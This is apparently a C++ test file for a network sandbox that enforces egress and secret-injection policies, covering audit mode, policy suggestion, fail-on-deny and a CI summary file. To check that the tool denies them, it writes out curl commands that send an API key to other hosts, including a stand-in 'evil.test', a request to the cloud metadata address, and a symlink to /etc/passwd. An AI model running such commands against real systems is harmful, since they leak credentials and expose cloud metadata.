// A policy found by watching: `run --mode audit`, `suggest`, then enforced; and what the run reports of itself.

#include <doctest/doctest.h>

#include <sys/wait.h>

#include <algorithm>
#include <csignal>
#include <fstream>
#include <sstream>
#include <string>

#include "tests/support/sandbox.hpp"

using namespace sallyport::test;

namespace {

constexpr const char* kPlaceholder = "sk-placeholder-0000";

std::string routes(const StandIn& origin) {
    return origin.route("api.example.test") + origin.route("other.example.test");
}

std::string secret() {
    return "[[secret]]\nname = \"api-key\"\nhost = \"api.example.test\"\nheader = \"x-api-key\"\nplaceholder = \"" +
           std::string(kPlaceholder) + "\"\nvalue = { env = \"API_KEY\" }\n";
}

std::string content(const std::filesystem::path& file) {
    std::ostringstream out;
    out << std::ifstream(file).rdbuf();
    return out.str();
}

}  // namespace

TEST_CASE("audit mode: what it saw becomes a policy, which then allows that and nothing else") {
    const StandIn origin;
    for (const auto user : sandbox_users()) {
        Sandbox sandbox(user, routes(origin), &origin);
        sandbox.run_options = {"--mode", "audit"};
        const std::string job =
            "curl -sS https://api.example.test/echo/1 https://api.example.test/echo/2 && curl -sSd x "
            "https://other.example.test/echo";
        const auto audited = sandbox.run(job);
        CAPTURE(audited.shown());
        REQUIRE(audited.exited_with(0));
        CHECK(audited.says("\"path\": \"/echo/2\""));
        CHECK(audited.err.starts_with("sallyport: AUDIT MODE: the policy is NOT enforced."));
        CHECK(audited.err.ends_with("sallyport: AUDIT MODE: NOTHING WAS ENFORCED.\n"));
        CHECK(audited.complains("  would deny  api.example.test    GET     /echo/*      2  -\n"));
        CHECK(sandbox.audited({{"event", "request"}, {"decision", "allow"}, {"would_deny", true}}) == 3);
        CHECK(sandbox.audited({{"event", "request"}, {"reason", "no rule names api.example.test:443"}}) == 2);
        CHECK(sandbox.audited({{"decision", "deny"}}) == 0);

        const auto suggested = run_program({program(), "suggest", sandbox.audit_file()});
        CAPTURE(suggested.shown());
        REQUIRE(suggested.exited_with(0));
        sandbox.write("sallyport.toml", suggested.out + routes(origin));
        CHECK(run_program({program(), "check", sandbox.policy_file()}).exited_with(0));

        sandbox.run_options = {"--fail-on-deny"};
        const auto enforced = sandbox.run(job + " && curl -sS https://api.example.test/echo/77");
        CAPTURE(enforced.shown());
        CHECK(enforced.exited_with(0));
        CHECK_FALSE(enforced.complains("AUDIT"));
        const auto before = origin.requests().size();
        const auto denied = sandbox.run("curl -sSd x https://api.example.test/echo/1");
        CAPTURE(denied.shown());
        CHECK(denied.exited_with(1));
        CHECK(denied.complains("--fail-on-deny"));
        CHECK(origin.requests().size() == before);
        CHECK_FALSE(run_program({program(), "suggest", "--policy", sandbox.policy_file(), sandbox.audit_file()})
                        .says("[[allow]]"));
    }
}

TEST_CASE("audit mode: secrets go to their host only, and a placeholder is refused on its way to any other") {
    const StandIn origin;
    const char* const kAstray[] = {
        "-H \"x-api-key: $API_KEY\" https://other.example.test/echo",
        "-u \"user:$API_KEY\" https://other.example.test/echo",
        "\"https://other.example.test/echo?key=$API_KEY\"",
        "--resolve evil.test:443:203.0.113.9 -H \"x-api-key: $API_KEY\" https://evil.test/",
        "http://api.example.test/echo",  // the right host, but not over TLS
        "-H 'Host: other.example.test' https://api.example.test/echo",
    };
    for (const auto user : sandbox_users()) {
        Sandbox sandbox(user, secret() + routes(origin), &origin, {std::string("API_KEY=") + StandIn::kKey});
        sandbox.run_options = {"--mode", "audit"};
        const auto right =
            sandbox.run("curl -sS https://api.example.test/echo; curl -sS https://other.example.test/echo");
        CAPTURE(right.shown());
        CHECK(right.says("\"key\": \"right\""));
        CHECK(right.says("\"key\": null"));
        const auto before = origin.requests().size();
        for (const auto* way : kAstray) {
            const auto ran = sandbox.run(std::string("curl -sS -w '%{http_code}' ") + way);
            CAPTURE(way);
            CAPTURE(ran.shown());
            CHECK((ran.out.ends_with("403") || ran.out.ends_with("421")));
            CHECK(sandbox.audit().back()["decision"] == "deny");
        }
        CHECK(origin.requests().size() == before);
        CHECK(content(sandbox.audit_file()).find(StandIn::kKey) == std::string::npos);
        const auto trace = sandbox.run("curl -sS -w '%{http_code}' -X TRACE https://api.example.test/echo");
        CHECK(trace.out.ends_with("405"));
    }
}

TEST_CASE(
    "audit mode: without a policy file there is nothing to enforce; metadata stays out of reach, and so does a policy "
    "that is missing by name") {
    for (const auto user : sandbox_users()) {
        const Sandbox sandbox(user, "");
        std::filesystem::remove(sandbox.policy_file());
        const auto line = [&](std::vector<std::string> options, const std::string& script) {
            auto words = sandbox.command_line({});
            const auto at = std::find(words.begin(), words.end(), "--policy");
            words.erase(at, at + 2);
            words.pop_back();
            words.insert(words.end(), options.begin(), options.end());
            words.insert(words.end(), {"--", "sh", "-c", script});
            return run_program(words, sandbox.options);
        };
        const auto audited = line({"--mode", "audit"}, "curl -sS -m 5 http://169.254.169.254/latest/meta-data");
        CAPTURE(audited.shown());
        CHECK(audited.exited_with(0));
        CHECK(audited.says("169.254.169.254 is a link-local address (cloud metadata)"));
        CHECK(audited.complains("denied"));
        CHECK(sandbox.audited({{"host", "169.254.169.254"}, {"decision", "deny"}}) == 1);
        CHECK(sandbox.audited({{"would_deny", true}}) == 0);
        CHECK(line({}, "true").exited_with(125));
        CHECK(line({"--mode", "audit", "--policy", "gone.toml"}, "true").exited_with(125));
        CHECK(line({"--mode", "loud"}, "true").exited_with(125));
    }
}

TEST_CASE("fail-on-deny: the command's own failure wins, and only something denied counts") {
    const StandIn origin;
    const std::string deny = "curl -s https://evil.test/; ";
    for (const auto user : sandbox_users()) {
        Sandbox sandbox(user, "[[allow]]\nhost = \"api.example.test\"\n" + routes(origin), &origin);
        CHECK(sandbox.run(deny + "exit 0").exited_with(0));
        for (const std::string mode : {"enforce", "audit"}) {
            CAPTURE(mode);
            sandbox.run_options = {"--fail-on-deny", "--mode", mode};
            CHECK(sandbox.run("curl -sS https://api.example.test/echo").exited_with(0));
            CHECK(sandbox.run("curl -s https://other.example.test/echo; exit 0").exited_with(1));
            CHECK(sandbox.run(deny + "exit 0").exited_with(1));  // only looked up, or refused since it does not exist
            CHECK(sandbox.run(deny + "exit 7").exited_with(7));
            CHECK(WTERMSIG(sandbox.run(deny + "kill -TERM $$").status) == SIGTERM);
        }
    }
}

TEST_CASE("summary file: the table is appended when the command has ended, which can neither read nor write there") {
    const StandIn origin;
    for (const auto user : sandbox_users()) {
        Sandbox sandbox(user, "[[allow]]\nhost = \"api.example.test\"\n" + routes(origin), &origin);
        sandbox.write("summary.md", "before\n");
        const auto file = (sandbox.directory() / "summary.md").string();
        sandbox.options.environment.push_back("GITHUB_STEP_SUMMARY=" + file);
        const auto ran = sandbox.run(
            "curl -sS https://api.example.test/echo; curl -s 'https://api.example.test/a|b`<c>'; "
            "echo \"var=$GITHUB_STEP_SUMMARY\"; cat summary.md; echo '<!--' >>summary.md; "
            "mv summary.md gone.md; ln -s /etc/passwd summary.md; "
            "for fd in /proc/[0-9]*/fd/*; do readlink $fd | grep summary.md; done; exit 0");
        CAPTURE(ran.shown());
        CHECK(ran.exited_with(0));
        CHECK(ran.says("var=\n"));
        CHECK_FALSE(ran.says("before"));
        CHECK_FALSE(ran.says("summary.md"));  // no descriptor of it is left to reopen
        const auto text = content(file);
        CAPTURE(text);
        CHECK(text.starts_with("before\n\n### Sallyport: 2 allowed, 0 denied\n"));
        CHECK(text.find("| allowed | `api.example.test` | `GET` | `/echo` | 1 | ") != text.npos);
        CHECK(text.find("<") == text.npos);
        CHECK(ran.complains("allowed"));
    }
}
